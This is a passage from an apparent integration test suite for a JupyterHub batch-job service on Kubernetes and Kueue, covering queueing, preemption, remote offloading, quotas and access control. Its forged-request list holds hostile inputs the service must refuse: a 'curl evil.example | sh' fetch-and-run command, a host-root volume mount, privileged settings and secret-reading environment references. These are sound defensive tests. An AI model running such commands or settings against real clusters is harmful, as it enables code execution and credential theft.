"""The job service through a real JupyterHub on the real control plane with the real Kueue.

The service runs as its own process (registered in the hub as an external service, so a test can
kill and restart it by pid), reads the test hub's configuration file, and is reached through the
hub's proxy with users' hub tokens or, for the page, the hub's OAuth login. One test runs the
service the way jupyterhub_config.d/40-jobs.py registers it (the hub starts it) and drives it
with `aiinfn jobs clone` from a notebook's environment, as a notebook terminal would.
"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import json
import os
import re
import secrets
import signal
import socket
import subprocess
import sys
import urllib.error
import urllib.parse
import urllib.request
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
import yaml
from aiinfn_dev import devstorage, hubaccount, kueue_config
from aiinfn_dev.devcluster import components
from aiinfn_dev.devcluster.processes import free_port
from kubernetes_asyncio import client
from kubernetes_asyncio.utils import create_from_dict
from tornado.httpclient import HTTPRequest
from tornado.websocket import websocket_connect

from aiinfn_hub import k8s, labels, tokens
from aiinfn_hub.services.jobs.operations import job_name
from tests.helpers import has_default_service_account, restricted_pod, wait_until
from tests.hub import REPO, Hub, hub_in_namespace, start_hub, stop_hub
from tests.jobs_service import (
    PREFIX,
    Service,
    hub_lines,
    pods_ready_in_kueue,
    run_long_then_short,
)

pytestmark = pytest.mark.integration

USERS = {
    "alice": {"groups": ["cms-ml"]},
    "bob": {"groups": ["lhcb-flashsim"]},
    "quinn": {"groups": ["qml"]},
    "dave": {"groups": []},
    "ada": {"admin": True, "groups": []},
}
SPAWNER = {
    "default_policy": {"accelerators": ["cpu"], "environments": "*"},
    "group_policies": {
        "cms-ml": {"accelerators": "*", "environments": "*", "max_accelerators": 2},
        "lhcb-flashsim": {
            "accelerators": ["cpu", "t4"],
            "environments": "*",
            "max_accelerators": 1,
        },
        "qml": {"accelerators": "*", "environments": "*", "max_accelerators": 2},
    },
}
JOB_LABELS = f"{labels.MANAGED_BY}={labels.MANAGED_BY_VALUE},{labels.COMPONENT}=batch-job"
SANDBOX_LABELS = (
    f"{labels.MANAGED_BY}={labels.MANAGED_BY_VALUE},{labels.COMPONENT}=batch-job-sandbox"
)
# The farm's only A30 is qml's: while a job of quinn's holds it (the fixture a30_taken), others
# wait.
A30 = {"accelerator": "a30", "environment": "qml"}


@dataclass
class Env:
    hub: Hub
    service: Service
    namespace: str
    tokens: dict[str, str] = field(default_factory=dict)

    def call(
        self,
        user: str | None,
        method: str,
        path: str,
        body=None,
        token: str | None = None,
        raw: bytes | None = None,
    ) -> tuple[int, dict, Any]:
        """(status, JSON body, headers) of one API call through the hub's proxy."""
        data = raw if raw is not None else (json.dumps(body).encode() if body is not None else None)
        headers = {}
        if token or user:
            headers["Authorization"] = f"token {token or self.tokens[user]}"
        request = urllib.request.Request(
            f"{self.hub.url}{PREFIX}{path}", data=data, method=method, headers=headers
        )
        try:
            with urllib.request.urlopen(request, timeout=30) as response:
                return response.status, json.loads(response.read() or b"{}"), response.headers
        except urllib.error.HTTPError as error:
            text = error.read()
            try:
                return error.code, json.loads(text), error.headers
            except ValueError:
                return error.code, {"raw": text.decode(errors="replace")}, error.headers

    async def api(self, user, method, path, body=None, **kwargs):
        return await asyncio.to_thread(self.call, user, method, path, body, **kwargs)


async def make_namespace(core, name: str) -> None:
    await core.create_namespace(
        client.V1Namespace(
            metadata=client.V1ObjectMeta(
                name=name,
                labels={
                    labels.POD_SECURITY_ENFORCE: "restricted",
                    labels.POD_SECURITY_ENFORCE_VERSION: "latest",
                },
            )
        )
    )
    await wait_until(lambda: has_default_service_account(core, name), "default service account")


async def prepare(api_client, name: str, root: Path, kueue_documents) -> list[dict]:
    """A restricted namespace with the storage claims and the projects' LocalQueues."""
    await make_namespace(client.CoreV1Api(api_client), name)
    storage = await devstorage.setup(api_client, name, root)
    await wait_until(
        lambda: devstorage.claims_bound(api_client, name, storage), "storage claims bound"
    )
    queues = kueue_config.local_queues(kueue_documents, name)
    await kueue_config.apply(api_client, queues)
    await wait_until(lambda: kueue_config.queues_active(api_client, queues), "LocalQueues active")
    return storage


async def user_token(hub: Hub, user: str) -> str:
    status, body = await asyncio.to_thread(
        hub.request, "POST", f"/users/{user}/tokens", {"note": "jobs tests"}
    )
    assert status == 201, body
    return body["token"]


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def env(devcluster, api_client, kueue, tmp_path_factory):
    kubeconfig, _ = devcluster
    tmp = tmp_path_factory.mktemp("jobs")
    port, token = free_port(), secrets.token_hex(32)
    lines = hub_lines(port, token, rate_limit=200.0, rate_limit_burst=400, orphan_grace_seconds=3.0)
    async with hub_in_namespace(
        api_client, kubeconfig, tmp, USERS, SPAWNER, lines, kueue_documents=kueue
    ) as hub:
        service = Service(tmp, hub, port, token)
        try:
            await asyncio.to_thread(service.start)
            environment = Env(hub, service, hub.namespace)
            for user in USERS:
                environment.tokens[user] = await user_token(hub, user)
            yield environment
        finally:
            service.stop()


@pytest.fixture
def pod_runner(devcluster):
    """Real notebooks: the session cluster runs the pod runner (skip when it cannot)."""
    _, cluster = devcluster
    if cluster is None or "pod-runner" not in {p.name for p in cluster.status().processes}:
        pytest.skip("the dev cluster runs without the pod runner (see its `up` output)")


def job_body(**fields) -> dict:
    """A request; its command really runs where the pod runner plays the catalog's images."""
    return {"name": "train", "command": ["python", "-c", "print('hello from a job')"], **fields}


def sleep_command(seconds: int) -> list[str]:
    return ["python", "-c", f"import time; time.sleep({seconds})"]


@pytest_asyncio.fixture(loop_scope="session")
async def a30_taken(env):
    """A long job of quinn's that Kueue admitted to the A30: jobs asking for it wait in line."""
    status, job, _ = await env.api(
        "quinn", "POST", "api/jobs", job_body(name="holder", command=sleep_command(600), **A30)
    )
    assert status == 201, job
    try:
        await wait_until(
            lambda: state_of(env, "quinn", job["id"], "admitted", "starting", "running"),
            "the A30 to be taken",
        )
        yield job
    finally:
        await env.api("quinn", "DELETE", f"api/jobs/{job['id']}")


async def state_of(env: Env, user: str, job_id: str, *states: str, placed: bool = False):
    """The job's status once it is in one of these states (and, if `placed`, has a queue
    position and Kueue's word on why it waits)."""
    status, body, _ = await env.api(user, "GET", f"api/jobs/{job_id}")
    assert status == 200, body
    return (
        body
        if body["state"] in states and (not placed or body["position"] and body["message"])
        else None
    )


class _NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None


def first_answer(url: str) -> tuple[int, str]:
    """(status, path of the Location) of a cookie-less browser's request, redirects not followed."""
    try:
        with urllib.request.build_opener(_NoRedirect).open(url, timeout=30) as response:
            return response.status, ""
    except urllib.error.HTTPError as error:
        return error.code, urllib.parse.urlsplit(error.headers.get("Location", "")).path


async def our_objects(env: Env, core, batch) -> tuple[list[str], list[str]]:
    jobs = await batch.list_namespaced_job(env.namespace, label_selector=JOB_LABELS)
    sandboxes = await core.list_namespaced_config_map(env.namespace, label_selector=SANDBOX_LABELS)
    return sorted(j.metadata.name for j in jobs.items), sorted(
        c.metadata.name for c in sandboxes.items
    )


# -- submitting and running ----------------------------------------------------------------------


async def test_a_job_is_created_suspended_in_its_projects_queue_and_waits_there(
    env, batch, a30_taken
):
    status, job, headers = await env.api("alice", "POST", "api/jobs", job_body(name="waits", **A30))
    assert status == 201, job
    assert headers["Location"] == f"{PREFIX}api/jobs/{job['id']}"
    assert (job["owner"], job["project"], job["queue"], job["state"]) == (
        "alice",
        "cms-ml",
        "project-cms-2dml",
        "queued",
    )
    waiting = await wait_until(
        lambda: state_of(env, "alice", job["id"], "queued", placed=True), "Kueue's workload"
    )
    assert waiting["position"] == 1 and waiting["message"].startswith("waiting for quota: ")
    created = await batch.read_namespaced_job(job["id"], env.namespace)
    assert created.spec.suspend is True and created.status.start_time is None
    assert created.metadata.labels["kueue.x-k8s.io/queue-name"] == "project-cms-2dml"
    assert created.metadata.labels["kueue.x-k8s.io/priority-class"] == "aiinfn-normal"
    assert created.metadata.labels[labels.OWNER] == "alice"
    assert created.metadata.annotations[labels.OWNER_NAME] == "alice"
    pod = created.spec.template.spec
    assert (pod.automount_service_account_token, pod.priority_class_name) == (False, "aiinfn-batch")
    assert pod.security_context.run_as_non_root and pod.security_context.run_as_user >= 100000
    assert pod.containers[0].resources.requests == {
        "cpu": "8",
        "memory": "32Gi",
        "nvidia.com/gpu": "1",
    }
    status, cancelled, _ = await env.api("alice", "DELETE", f"api/jobs/{job['id']}")
    assert (status, cancelled["state"]) == (200, "cancelled")


async def test_a_batch_job_with_sandbox_files_runs_to_completion(env, core):
    script = "import os; print('hello', os.environ['EPOCHS'])\n"
    status, job, _ = await env.api(
        "alice",
        "POST",
        "api/jobs",
        job_body(command=["python", "train.py"], files={"train.py": script}, env={"EPOCHS": "2"}),
    )
    assert status == 201, job
    sandbox = await core.read_namespaced_config_map(job["id"], env.namespace)
    assert (
        sandbox.data == {"train.py": script}
        and sandbox.metadata.owner_references[0].name == job["id"]
    )
    done = await wait_until(
        lambda: state_of(env, "alice", job["id"], "succeeded"), "the job to succeed"
    )
    assert done["admission"] == {
        "cluster_queue": "project-cms-2dml",
        "flavors": {"cpu": "cpu", "memory": "cpu"},
    }
    assert done["succeeded"] == 1 and done["pods"][0]["node"].startswith("service-vm-")
    status, listing, _ = await env.api("alice", "GET", "api/jobs")
    assert job["id"] in [j["id"] for j in listing["jobs"]]
    status, logs, _ = await env.api("alice", "GET", f"api/jobs/{job['id']}/logs?tail=10")
    assert status == 200 and logs["pods"][0]["pod"] == done["pods"][0]["name"]
    if "error" not in logs["pods"][0]:  # pods kwok only simulates have no log
        assert logs["pods"][0]["log"] == "hello 2\n"


async def test_over_quota_jobs_wait_in_line_and_lower_priority_is_preempted(env, pod_runner):
    """qml owns the farm's only A30: a long low-priority job holds it and jobs of the same
    priority wait in line behind it (only a higher priority preempts); a high-priority job
    preempts it and runs; the waiting ones run once the long one is cancelled. (Jobs really run:
    the pod runner plays their pods.)"""
    _, low, _ = await env.api(
        "quinn",
        "POST",
        "api/jobs",
        job_body(name="low", priority="low", command=sleep_command(300), **A30),
    )
    waiting: list[str] = []
    try:
        await _wait_in_line_then_preempt(env, low, waiting)
    finally:
        for job_id in (low["id"], *waiting):  # a failure leaves the A30 to the next test
            await env.api("quinn", "DELETE", f"api/jobs/{job_id}")


async def _wait_in_line_then_preempt(env: Env, low: dict, waiting: list[str]) -> None:
    await wait_until(
        lambda: state_of(env, "quinn", low["id"], "running"), "the low-priority job to run"
    )
    for name in ("next", "later"):
        status, job, _ = await env.api(
            "quinn", "POST", "api/jobs", job_body(name=name, priority="low", **A30)
        )
        assert status == 201, job
        waiting.append(job["id"])
    seen: list[list[dict]] = []

    async def in_line():
        """Both waiting and placed, and Kueue's reason on one of them, in one listing (places
        shift as workloads appear; Kueue writes a workload's reason when it tries to admit it,
        and a write it loses to another update is written again only at its next try)."""
        _, listing, _ = await env.api("quinn", "GET", "api/jobs")
        jobs = sorted(
            (j for j in listing["jobs"] if j["id"] in waiting), key=lambda j: j["position"] or 0
        )
        seen[:] = [jobs]
        placed = len(jobs) == 2 and all(j["state"] == "queued" and j["position"] for j in jobs)
        return jobs if placed and any(j["message"] for j in jobs) else None

    try:
        line = await wait_until(in_line, "the two jobs to wait in line")
    except AssertionError as error:
        raise AssertionError(f"{error}; last seen: {seen}") from None
    assert [j["position"] for j in line] == [1, 2]  # (same second: Kueue breaks the tie by uid)
    assert all(j["message"].startswith("waiting for quota: ") for j in line if j["message"]), line

    # The urgent job runs a few seconds, so the preempted one is seen waiting before it is back.
    _, high, _ = await env.api(
        "quinn",
        "POST",
        "api/jobs",
        job_body(name="urgent", priority="high", command=sleep_command(3), **A30),
    )
    preempted = await wait_until(
        lambda: state_of(env, "quinn", low["id"], "preempted", placed=True),
        "the low one to be preempted",
    )
    assert preempted["message"] == (
        "preempted by a higher-priority job of the same project; "
        "waiting in the queue to be admitted again"
    )
    assert preempted["admission"] is None and preempted["active"] == 0
    await wait_until(
        lambda: state_of(env, "quinn", high["id"], "succeeded"), "the high-priority job to run"
    )
    # Kueue then admits the preempted job again or one of the waiting ones: cancelling the long
    # job leaves the quota to them.
    status, cancelled, _ = await env.api("quinn", "DELETE", f"api/jobs/{low['id']}")
    assert (status, cancelled["state"]) == (200, "cancelled")
    for job_id in waiting:
        await wait_until(
            lambda job_id=job_id: state_of(env, "quinn", job_id, "succeeded"),
            "a waiting job to run",
        )


async def test_a_spawn_takes_a_jobs_accelerator_the_job_is_requeued_and_completes_later(
    env, core, pod_runner
):
    """Issue 13's done-when, through the hub and the job service: quinn's batch job runs on the
    farm's only A30 and quinn spawns a notebook on it. The scheduler stops the job's pod; the
    spawn succeeds, its progress naming the job stopped. The job is preempted while its
    replacement pod waits, then Kueue requeues it (waitForPodsReady's recovery timeout):
    suspended, its quota released, not admitted again while the notebook holds the A30
    (topology-aware admission counts the notebook). When the server stops, it runs again and
    completes."""
    _, job, _ = await env.api(
        "quinn",
        "POST",
        "api/jobs",
        job_body(name="bumped", priority="low", command=run_long_then_short(".bumped-ran"), **A30),
    )
    await wait_until(lambda: state_of(env, "quinn", job["id"], "running"), "the job to run")
    # Kueue marks the job's pods ready a moment after the Job does; a job stopped before that
    # waits waitForPodsReady's first-start timeout (30 min) instead of the recovery timeout.
    await wait_until(
        lambda: pods_ready_in_kueue(core.api_client, env.namespace, job["id"]),
        "Kueue to see it run",
    )

    name = f"a30-{uuid.uuid4().hex[:6]}"
    server = f"/users/quinn/servers/{name}"
    spawn = asyncio.ensure_future(
        asyncio.to_thread(env.hub.request, "POST", server, {"accelerator": "a30"})
    )

    async def nominated():
        """The scheduler chose the A30's node for the server and is stopping the job there."""
        pods = await core.list_namespaced_pod(env.namespace)
        wanted = {"hub.jupyter.org/username": "quinn", "hub.jupyter.org/servername": name}
        return any(
            wanted.items() <= (p.metadata.annotations or {}).items()
            and p.status.nominated_node_name == "server2-a30"
            for p in pods.items
        )

    try:
        await wait_until(nominated, "the scheduler to nominate the A30's node for the server")
        events, (status, answer) = await asyncio.gather(
            asyncio.to_thread(env.hub.events, f"{server}/progress"), spawn
        )
        assert status in (201, 202), answer
        assert events[-1].get("ready"), events
        assert any(
            e["message"].startswith("Stopping 1 batch job on server2-a30 to make room")
            and e["message"].endswith(": your job 'bumped'")
            for e in events
        ), events
        preempted = await wait_until(
            lambda: state_of(env, "quinn", job["id"], "preempted", "requeued"),
            "the job to be stopped",
        )
        assert preempted["failed"] == 0, preempted
        requeued = await wait_until(
            lambda: state_of(env, "quinn", job["id"], "requeued"),
            "Kueue to requeue the job",
            limit=180,
        )
        assert requeued["message"].startswith("requeued: its pods were stopped")
        assert (requeued["admission"], requeued["active"], requeued["failed"]) == (None, 0, 0)
        assert requeued["position"] == 1
    finally:
        await asyncio.to_thread(env.hub.request, "DELETE", server, {"remove": True})
    done = await wait_until(
        lambda: state_of(env, "quinn", job["id"], "succeeded"),
        "the job to run again and finish",
        limit=180,
    )
    assert (done["admission"]["flavors"]["nvidia.com/gpu"], done["failed"]) == ("a30", 0)


async def test_an_only_remote_job_runs_on_the_virtual_node(env, core):
    status, body, _ = await env.api(
        "alice", "POST", "api/jobs", job_body(offload="only", volumes=["home"])
    )
    assert status == 400 and "cannot mount home" in body["message"]
    status, body, _ = await env.api(
        "alice", "POST", "api/jobs", job_body(offloadable=True, offload="only")
    )
    assert status == 400 and "offloadable: true means offload 'may'" in body["message"]
    status, job, _ = await env.api(
        "alice", "POST", "api/jobs", job_body(offload="only", accelerator="t4")
    )
    assert status == 201, job
    done = await wait_until(
        lambda: state_of(env, "alice", job["id"], "succeeded"), "the offloaded job"
    )
    assert done["admission"]["flavors"]["nvidia.com/gpu"] == "interlink-infn-t1"
    assert {p["node"] for p in done["pods"]} == {"interlink-infn-t1"}
    assert {p["site"] for p in done["pods"]} == {"infn-t1-htcondor"}
    # Without a deadline, of the GPU sites only the one without a maximum run time accepts it.
    assert (done["offload"], done["offloadable"], done["site"], done["sites"]) == (
        "only",
        True,
        "infn-t1-htcondor",
        ["infn-t1-htcondor"],
    )


async def test_an_offloadable_job_runs_locally_while_its_project_has_local_room(env):
    """Local flavors come first: an idle T4 of alice's project takes the job ("may")."""
    status, job, _ = await env.api(
        "alice", "POST", "api/jobs", job_body(offloadable=True, accelerator="t4")
    )
    assert status == 201, job
    done = await wait_until(lambda: state_of(env, "alice", job["id"], "succeeded"), "the job")
    assert done["admission"]["flavors"]["nvidia.com/gpu"] == "t4"
    assert (done["offload"], done["site"]) == ("may", "local")
    assert [p["site"] for p in done["pods"]] == ["local"]
    assert "interlink-infn-t1" not in {p["node"] for p in done["pods"]}


async def test_an_offloadable_job_spills_to_the_virtual_node_when_local_quota_is_used(
    env, a30_taken
):
    """qml's only A30 is held (and no other project has one to lend): Kueue tries the next
    flavor that fits, the remote site, rather than making the job wait."""
    status, job, _ = await env.api(
        "quinn", "POST", "api/jobs", job_body(name="spill", offload="may", **A30)
    )
    assert status == 201, job
    try:
        done = await wait_until(
            lambda: state_of(env, "quinn", job["id"], "succeeded"), "the job to run remotely"
        )
        assert done["admission"]["flavors"]["nvidia.com/gpu"] == "interlink-infn-t1"
        assert done["site"] == "infn-t1-htcondor"
        assert {p["node"] for p in done["pods"]} == {"interlink-infn-t1"}
        _, holder, _ = await env.api("quinn", "GET", f"api/jobs/{a30_taken['id']}")
        assert (holder["site"], holder["admission"]["flavors"]["nvidia.com/gpu"]) == (
            "local",
            "a30",
        )
    finally:
        await env.api("quinn", "DELETE", f"api/jobs/{job['id']}")


# Two sites only (no INFN-T1): the Podman VM runs CPU jobs, Leonardo GPU jobs of up to a day.
TWO_SITES = {
    "podman-vm": {"flavor": "vk-podman-vm", "accepts_accelerator_kinds": ["cpu"]},
    "leonardo-slurm": {
        "flavor": "vk-leonardo-slurm",
        "accepts_accelerator_kinds": ["cpu", "gpu"],
        "max_runtime_seconds": 86400,
    },
}


@pytest_asyncio.fixture(loop_scope="session")
async def two_sites(env):
    """The service restarted with TWO_SITES as its site policy (and no retries of failed pods)."""
    env.service.stop()
    await asyncio.to_thread(
        env.service.start,
        None,
        f"--AiInfnJobs.sites={json.dumps(TWO_SITES)}",
        "--AiInfnJobs.backoff_limit=0",
    )
    try:
        yield env
    finally:
        env.service.stop()
        await asyncio.to_thread(env.service.start)


async def test_site_policies_pick_the_site_or_refuse_naming_each_rule(two_sites):
    env = two_sites
    gpu = {"offload": "only", "accelerator": "t4", "volumes": []}
    status, body, _ = await env.api("alice", "POST", "api/jobs", job_body(**gpu))
    assert status == 400, body
    assert body["message"] == (
        "no remote site accepts this job: podman-vm: accepts no GPU; leonardo-slurm: maximum "
        "run time 24 h (give a deadline_seconds of at most 86400)"
    )
    status, body, _ = await env.api(
        "alice", "POST", "api/jobs", job_body(confidential=True, offload="only", volumes=[])
    )
    assert status == 400 and body["message"].startswith("a confidential job stays on local")
    # Leonardo fails 2% of jobs at random; this one is told to succeed (backoff_limit 0 here).
    succeed = {components.SITE_OUTCOME_ENV: "succeed"}
    status, job, _ = await env.api(
        "alice",
        "POST",
        "api/jobs",
        job_body(name="on-leonardo", deadline_seconds=3600, env=succeed, **gpu),
    )
    assert status == 201, job
    done = await wait_until(
        lambda: state_of(env, "alice", job["id"], "succeeded"), "the job to run at Leonardo"
    )
    assert done["admission"]["flavors"]["nvidia.com/gpu"] == "vk-leonardo-slurm"
    assert (done["site"], done["sites"]) == ("leonardo-slurm", ["leonardo-slurm"])
    assert {p["node"] for p in done["pods"]} == {"vk-leonardo-slurm"}


async def test_a_job_a_site_fails_is_reported_failed_with_its_site(two_sites):
    """The dev cluster's sites fail pods at random; this one is told to (its env, read by kwok's
    site stages: the pod runner leaves pods on virtual nodes to them, whatever their image)."""
    env = two_sites
    status, job, _ = await env.api(
        "alice",
        "POST",
        "api/jobs",
        job_body(
            name="site-fails", offload="only", volumes=[], env={components.SITE_OUTCOME_ENV: "fail"}
        ),
    )
    assert status == 201, job
    failed = await wait_until(
        lambda: state_of(env, "alice", job["id"], "failed", "succeeded"), "the job to finish"
    )
    assert (failed["state"], failed["site"], failed["failed"]) == ("failed", "podman-vm", 1)
    assert [(p["node"], p["phase"]) for p in failed["pods"]] == [("vk-podman-vm", "Failed")]
    assert (await env.api("alice", "DELETE", f"api/jobs/{job['id']}"))[0] == 200


async def _podman_reservation(env: Env, core: client.CoreV1Api) -> list[str]:
    """The Podman VM's quota Kueue holds for the namespace's LocalQueues (empty: none)."""
    queues = await client.CustomObjectsApi(core.api_client).list_namespaced_custom_object(
        kueue_config.API_GROUP, kueue_config.API_VERSION, env.namespace, "localqueues"
    )
    return [
        f"{queue['metadata']['name']}: {resource['name']}={resource['total']}"
        for queue in queues["items"]
        for flavor in (queue.get("status") or {}).get("flavorsReservation") or ()
        if flavor["name"] == "vk-podman-vm"
        for resource in flavor.get("resources") or ()
        if resource["total"] not in ("0", 0)
    ]


async def test_nothing_is_lost_when_a_site_fails_jobs(two_sites, core):
    """Six jobs offloaded to the Podman VM, which fails half of them: each ends succeeded or
    failed in the site's own words, none stays queued or running, Kueue gets their quota back,
    and deleting them leaves nothing of theirs in the namespace."""
    env = two_sites
    outcomes = {}
    for index, fails in enumerate([True, False] * 3):
        extra = {components.SITE_OUTCOME_ENV: "fail"} if fails else {}
        body = job_body(name=f"part-{index}", offload="only", volumes=[], env=extra)
        status, job, _ = await env.api("alice", "POST", "api/jobs", body)
        assert status == 201, job
        outcomes[job["id"]] = "failed" if fails else "succeeded"
    ended = {
        job_id: await wait_until(
            lambda job_id=job_id: state_of(env, "alice", job_id, "failed", "succeeded"),
            f"job {job_id} to end",
        )
        for job_id in outcomes
    }
    assert {job_id: body["state"] for job_id, body in ended.items()} == outcomes
    for job_id, body in ended.items():
        assert body["site"] == "podman-vm", body
        if outcomes[job_id] == "failed":
            assert body["message"] == (
                "it failed 1 time, its retry limit; its last attempt, at podman-vm: container "
                "'job' failed (exit code 1; the remote site (vk-podman-vm) failed the job)"
            )
        else:
            assert (body["succeeded"], body["message"]) == (1, None)
    await wait_until(
        lambda: _no_reservation(env, core),
        "Kueue to release the Podman VM's quota",
    )
    for job_id in outcomes:
        assert (await env.api("alice", "DELETE", f"api/jobs/{job_id}"))[0] == 200
    await wait_until(lambda: _nothing_left(env, core, set(outcomes)), "the jobs' objects to go")


async def _no_reservation(env: Env, core: client.CoreV1Api) -> bool:
    return not await _podman_reservation(env, core)


async def _nothing_left(env: Env, core: client.CoreV1Api, job_ids: set[str]) -> bool:
    """No Job, pod, Workload or sandbox ConfigMap of these jobs is left in the namespace."""
    ns = env.namespace
    custom = client.CustomObjectsApi(core.api_client)
    jobs = await client.BatchV1Api(core.api_client).list_namespaced_job(ns)
    pods = await core.list_namespaced_pod(ns)
    maps = await core.list_namespaced_config_map(ns)
    workloads = await custom.list_namespaced_custom_object(
        kueue_config.API_GROUP, kueue_config.API_VERSION, ns, "workloads"
    )
    left = [j.metadata.name for j in jobs.items if j.metadata.name in job_ids]
    left += [p.metadata.name for p in pods.items if p.metadata.labels.get("job-name") in job_ids]
    left += [m.metadata.name for m in maps.items if m.metadata.name in job_ids]
    left += [
        w["metadata"]["name"]
        for w in workloads["items"]
        if any(o["name"] in job_ids for o in w["metadata"].get("ownerReferences") or ())
    ]
    return not left


# -- refusals ----------------------------------------------------------------------------------

FORGED = [
    ("alice", job_body(user="bob"), 400, "unknown field 'user'"),
    ("alice", job_body(namespace="kube-system"), 400, "unknown field 'namespace'"),
    ("alice", job_body(queue="project-lhcb-2dflashsim"), 400, "unknown field 'queue'"),
    (
        "alice",
        job_body(labels={labels.OWNER: "bob", "kueue.x-k8s.io/queue-name": "x"}),
        400,
        "unknown field 'labels'",
    ),
    (
        "alice",
        job_body(env={"KEY": {"valueFrom": {"secretKeyRef": {"name": "juicefs", "key": "k"}}}}),
        400,
        "env.KEY: Input should be a valid string",
    ),
    (
        "alice",
        job_body(envFrom=[{"secretRef": {"name": "juicefs"}}]),
        400,
        "unknown field 'envFrom'",
    ),
    ("alice", job_body(volumes=[{"name": "host", "hostPath": {"path": "/"}}]), 400, "volumes.0"),
    (
        "alice",
        job_body(securityContext={"privileged": True}),
        400,
        "unknown field 'securityContext'",
    ),
    ("alice", job_body(privileged=True), 400, "unknown field 'privileged'"),
    (
        "alice",
        job_body(command="python train.py && curl evil.example | sh"),
        400,
        "command: Input should be",
    ),
    (
        "alice",
        job_body(image="docker.io/library/ubuntu:22.04"),
        403,
        "custom images are not available to your groups",
    ),
    (
        "alice",
        job_body(image="r.io/x:1", environment="cpu"),
        400,
        "either an environment or an image",
    ),
    ("alice", job_body(env={"JUPYTERHUB_API_TOKEN": "x"}), 400, "reserved by the platform"),
    (
        "alice",
        job_body(project="lhcb-flashsim"),
        403,
        "not a member of a project called 'lhcb-flashsim'",
    ),
    ("alice", job_body(priority="root"), 400, "unknown priority 'root'"),
    ("bob", job_body(accelerator="a100"), 403, "not available to your groups"),
    ("dave", job_body(), 403, "you are in no project"),
    ("ada", job_body(), 403, "you are in no project"),
]


async def test_forged_requests_are_refused_and_create_nothing(env, core, batch):
    before = await our_objects(env, core, batch)
    for user, body, status, message in FORGED:
        got, answer, _ = await env.api(user, "POST", "api/jobs", body)
        assert (got, message in answer.get("message", "")) == (status, True), (body, answer)
    # A clone runs in its notebook's image: a catalog environment (another image) is refused.
    got, answer, _ = await env.api("alice", "POST", "api/clones", job_body(environment="ml-gpu"))
    assert got == 400 and "environment: String should match pattern" in answer["message"]
    got, answer, _ = await env.api("alice", "POST", "api/clones", job_body(image="r.io/x:1"))
    assert got == 400 and "unknown field 'image'" in answer["message"]
    got, answer, _ = await env.api(
        "alice", "POST", "api/jobs", raw=b"{" + b" " * (600 * 1024) + b"}"
    )
    assert got == 413, answer
    got, answer, _ = await env.api("alice", "POST", "api/jobs", raw=b"not json")
    assert got == 400 and answer["message"].startswith("invalid request")
    assert await our_objects(env, core, batch) == before


async def test_a_job_that_could_never_run_is_refused_with_the_largest_request(env, core, batch):
    """What Kueue's quotas (borrowing included) and the nodes can ever hold, read from the cluster
    with the service's own Role: beyond it a job would wait forever."""
    before = await our_objects(env, core, batch)
    status, body, _ = await env.api("alice", "POST", "api/jobs", job_body(cpu="999999"))
    assert (status, body["message"]) == (
        400,
        "this job can never run: one pod asks for 999999 CPUs and 8Gi memory, "
        "and the nodes that can run it have at most 16 CPUs and 64Gi memory "
        "(not necessarily on one node)",
    )
    status, body, _ = await env.api(
        "alice", "POST", "api/jobs", job_body(accelerator="a100", count=2, completions=3)
    )
    assert (
        status == 400
        and "its project's queue can hold at most 96 CPUs, 768Gi memory and 4 × NVIDIA A100 80GB"
        in body["message"]
    ), body
    status, body, _ = await env.api(
        "alice", "POST", "api/jobs", job_body(offloadable=True, cpu="2001")
    )
    assert status == 400 and "at most 2000 CPUs and 8Ti memory" in body["message"], body
    assert await our_objects(env, core, batch) == before


async def test_a_user_may_have_only_so_many_unfinished_jobs(env):
    async def unfinished() -> list[str]:
        _, listing, _ = await env.api("bob", "GET", "api/jobs")
        return [j["id"] for j in listing["jobs"] if j["state"] not in ("succeeded", "failed")]

    limit = len(await unfinished()) + 2
    env.service.stop()
    await asyncio.to_thread(env.service.start, None, f"--AiInfnJobs.max_unfinished_jobs={limit}")
    try:
        mine = []
        for key in ("cap-1", "cap-2"):
            status, job, _ = await env.api(
                "bob",
                "POST",
                "api/jobs",
                job_body(name=key, command=sleep_command(600), idempotency_key=key),
            )
            assert status == 201, job
            mine.append(job["id"])
        status, body, _ = await env.api(
            "bob", "POST", "api/jobs", job_body(name="cap-3", idempotency_key="cap-3")
        )
        assert (status, body["message"]) == (
            429,
            f"you have {limit} jobs that have not finished, the most one user "
            f"may have ({limit}); wait for some to finish or cancel some",
        )
        status, again, _ = await env.api(
            "bob",
            "POST",
            "api/jobs",
            job_body(name="cap-1", command=sleep_command(600), idempotency_key="cap-1"),
        )
        assert (status, again["id"]) == (200, mine[0])
        status, other, _ = await env.api("alice", "POST", "api/jobs", job_body(name="other-user"))
        assert status == 201, other
        assert (await env.api("alice", "DELETE", f"api/jobs/{other['id']}"))[0] == 200
        assert (await env.api("bob", "DELETE", f"api/jobs/{mine.pop()}"))[0] == 200
        status, third, _ = await env.api(
            "bob", "POST", "api/jobs", job_body(name="cap-3", idempotency_key="cap-3")
        )
        assert status == 201, third
        mine.append(third["id"])
    finally:
        for job_id in mine:
            await env.api("bob", "DELETE", f"api/jobs/{job_id}")
        env.service.stop()
        await asyncio.to_thread(env.service.start)


async def test_who_may_call_and_see_what(env, core, batch):
    _, job, _ = await env.api("alice", "POST", "api/jobs", job_body(name="private"))
    for user in ("bob", "quinn"):
        for method, path in (("GET", ""), ("DELETE", ""), ("GET", "/logs"), ("POST", "/resubmit")):
            status, body, _ = await env.api(
                user, method, f"api/jobs/{job['id']}{path}", {} if method == "POST" else None
            )
            assert (status, body["message"]) == (404, f"no job {job['id']!r}"), (user, method, path)
    status, body, _ = await env.api("bob", "GET", "api/jobs/job-00000000000000000000")
    assert status == 404 and body["message"] == "no job 'job-00000000000000000000'"
    status, listing, _ = await env.api("bob", "GET", "api/jobs?all=1")
    assert job["id"] not in [j["id"] for j in listing["jobs"]]
    status, listing, _ = await env.api("ada", "GET", "api/jobs?all=1")
    assert job["id"] in [j["id"] for j in listing["jobs"]]
    status, body, _ = await env.api("ada", "POST", f"api/jobs/{job['id']}/resubmit", {})
    assert (status, body["message"]) == (403, "only the owner can resubmit a job")
    assert (await env.api("ada", "GET", f"api/jobs/{job['id']}"))[0] == 200

    # "Who are you?" is a 401 with a challenge; "you may not" a 403; a browser is sent to log in.
    status, body, headers = await env.api(None, "GET", "api/jobs")
    assert (status, headers["WWW-Authenticate"]) == (401, 'Bearer realm="aiinfn-jobs"'), body
    assert body["message"].startswith("authentication required")
    status, body, headers = await env.api(
